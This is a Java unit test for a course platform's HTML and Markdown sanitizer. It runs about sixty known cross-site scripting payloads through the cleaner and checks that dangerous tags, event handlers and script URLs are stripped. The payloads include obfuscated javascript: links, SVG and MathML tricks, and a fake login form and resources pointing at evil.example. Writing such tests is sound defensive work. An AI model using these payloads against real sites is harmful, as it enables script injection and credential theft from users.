package org.lectern.course.format;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks that have worked somewhere, each given raw and through Markdown. What comes out is judged anew, not by the allow-list's own rules. */
class SafeHtmlTest {

    private static final Set<String> NEVER = Set.of(
            "script",
            "style",
            "iframe",
            "frame",
            "object",
            "embed",
            "applet",
            "form",
            "button",
            "textarea",
            "select",
            "link",
            "meta",
            "base",
            "svg",
            "math",
            "template",
            "noscript",
            "video",
            "audio",
            "source",
            "portal",
            "dialog",
            "details");

    private static final Set<String> ADDRESSES =
            Set.of("href", "src", "action", "formaction", "data", "srcset", "poster");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=x onerror\u0000=alert(1)>",
                "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
                "<img src=\"java\nscript:alert(1)\">",
                "<img src=`javascript:alert(1)`>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<img src='https://evil.example/pixel.gif'>",
                "<img src='//evil.example/pixel.gif'>",
                "<img src='ht&#9;tps://evil.example/pixel.gif'>",
                "<img src='/\t/evil.example/pixel.gif'>",
                "<img src='\\\\evil.example/pixel.gif'>",
                "<img srcset='https://evil.example/a 2x' src=a.png>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math href='javascript:alert(1)'>x</math>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href=' &#14; javascript:alert(1)'>x</a>",
                "<a href='JaVaScRiPt:alert(1)'>x</a>",
                "<a href='java&NewLine;script:alert(1)'>x</a>",
                "<a href='java&#x73;cript:alert(1)'>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='https://good.example' onclick=alert(1) style='x:expression(alert(1))'>x</a>",
                "<a href='x' target=_blank ping='https://evil.example'>x</a>",
                "<iframe src='javascript:alert(1)'></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='data:text/html,<script>alert(1)</script>'></object>",
                "<embed src='javascript:alert(1)'>",
                "<form action='https://evil.example'><input name=password type=password><button>Log in</button></form>",
                "<button formaction='javascript:alert(1)'>x</button>",
                "<input type=image src=x onerror=alert(1)>",
                "<input autofocus onfocus=alert(1)>",
                "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<base href='https://evil.example/'>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<style>@import 'https://evil.example/x.css'; * { background: url(javascript:alert(1)) }</style>",
                "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
                "<p class='bar dialog' onmouseover=alert(1)>x</p>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<body onload=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><img src=x onerror=alert(1)></template>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[><img src=x onerror=alert(1)>]]>",
                "<p title='</p><script>alert(1)</script>'>x</p>",
                "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
                "[x](javascript:alert(1))",
                "[x](  JAVASCRIPT:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "![x](javascript:alert(1))",
                "![x](https://evil.example/pixel.gif)",
                "<javascript:alert(1)>",
                "```html\" onmouseover=\"alert(1)\n<script>alert(1)</script>\n```",
                ":::note <img src=x onerror=alert(1)>\nx\n:::"
            })
    void attackLosesItsTeeth(String attack) {
        harmless(SafeHtml.clean(attack));
        harmless(Markdown.html("course", attack));
        harmless(SafeHtml.clean(SafeHtml.clean(attack)));
    }

    @Test
    void cleaningTwiceChangesNothing() {
        String html = Markdown.html(
                "course", "| a | b |\n|---|---|\n| `x` | **y** |\n\n- [x] done\n\n[a](section:b#c) <kbd>K</kbd>");

        assertThat(SafeHtml.clean(html)).isEqualTo(html);
    }

    private static void harmless(String html) {
        for (Element element : Jsoup.parseBodyFragment(html).body().getAllElements()) {
            assertThat(NEVER).as(html).doesNotContain(element.normalName());
            element.attributes().forEach(attribute -> {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name)
                        .as(html)
                        .doesNotStartWith("on")
                        .isNotIn("style", "srcdoc", "ping", "target", "http-equiv", "srcset");
                if (ADDRESSES.contains(name)) {
                    String address = attribute
                            .getValue()
                            .replaceAll("[\\s\\p{Cntrl}]", "")
                            .replace('\\', '/')
                            .toLowerCase(Locale.ROOT);
                    assertThat(address)
                            .as(html)
                            .doesNotStartWith("javascript:")
                            .doesNotStartWith("data:")
                            .doesNotStartWith("vbscript:");
                    if (name.equals("src")) {
                        assertThat(address).as(html).doesNotContain("//");
                    }
                }
            });
            if (element.normalName().equals("input")) {
                assertThat(element.attr("type")).as(html).isEqualTo("checkbox");
            }
        }
    }
}
